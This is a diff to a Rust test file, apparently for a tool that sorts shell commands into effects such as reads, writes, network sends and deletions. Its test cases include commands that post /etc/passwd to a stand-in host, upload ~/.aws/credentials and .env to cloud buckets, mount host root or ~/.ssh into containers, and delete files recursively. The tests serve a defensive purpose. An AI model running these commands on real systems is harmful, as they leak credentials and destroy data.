@@ -586,6 +586,7 @@ fn curl_and_wget_send_with_method_and_body_sources() {
             "wget --post-file=/etc/passwd http://x.example",
             &[
                 "run wget --post-file=/etc/passwd http://x.example",
+                "write index.html",
                 "send http://x.example POST [file /etc/passwd]",
             ],
         ),
@@ -1143,4 +1144,90 @@ fn literal_output_written_by_a_redirection_is_its_content() {
             None
         ]
     );
+}
+
+#[test]
+fn downloads_object_stores_and_container_mounts() {
+    table(&[
+        (
+            "wget https://x.example/a/b.tar.gz?x=1",
+            &[
+                "run wget https://x.example/a/b.tar.gz?x=1",
+                "write b.tar.gz",
+                "send https://x.example/a/b.tar.gz?x=1 GET []",
+            ],
+        ),
+        (
+            "wget -P dl https://x.example/",
+            &[
+                "run wget -P dl https://x.example/",
+                "write dl/index.html",
+                "send https://x.example/ GET []",
+            ],
+        ),
+        (
+            "wget -qO- https://x.example/i.sh",
+            &[
+                "run wget -qO- https://x.example/i.sh",
+                "send https://x.example/i.sh GET []",
+            ],
+        ),
+        (
+            "curl -sO https://x.example/run.sh",
+            &[
+                "run curl -sO https://x.example/run.sh",
+                "write run.sh",
+                "send https://x.example/run.sh GET []",
+            ],
+        ),
+        (
+            "aws s3 cp ~/.aws/credentials s3://bucket/x",
+            &[
+                "run aws s3 cp ~/.aws/credentials s3://bucket/x",
+                "read ~/.aws/credentials",
+                "send s3://bucket/x - [file ~/.aws/credentials]",
+            ],
+        ),
+        (
+            "aws s3 sync s3://b/ ./local --delete",
+            &[
+                "run aws s3 sync s3://b/ ./local --delete",
+                "send s3://b/ - []",
+                "delete ./local recursively",
+                "write ./local",
+            ],
+        ),
+        (
+            "gsutil cp .env gs://b/",
+            &[
+                "run gsutil cp .env gs://b/",
+                "read .env",
+                "send gs://b/ - [file .env]",
+            ],
+        ),
+        (
+            "docker run --rm -v ~/.ssh:/root/.ssh:ro img",
+            &[
+                "run docker run --rm -v ~/.ssh:/root/.ssh:ro img",
+                "read ~/.ssh",
+            ],
+        ),
+        (
+            "docker run -v /:/host -it alpine sh",
+            &[
+                "run docker run -v /:/host -it alpine sh",
+                "read /",
+                "write /",
+            ],
+        ),
+        (
+            "docker run -v data:/data img",
+            &["run docker run -v data:/data img"],
+        ),
+        ("git clean -n src/", &["run git clean -n src/"]),
+        (
+            "git clean -fd src/",
+            &["run git clean -fd src/", "delete src/ recursively"],
+        ),
+    ]);
 }
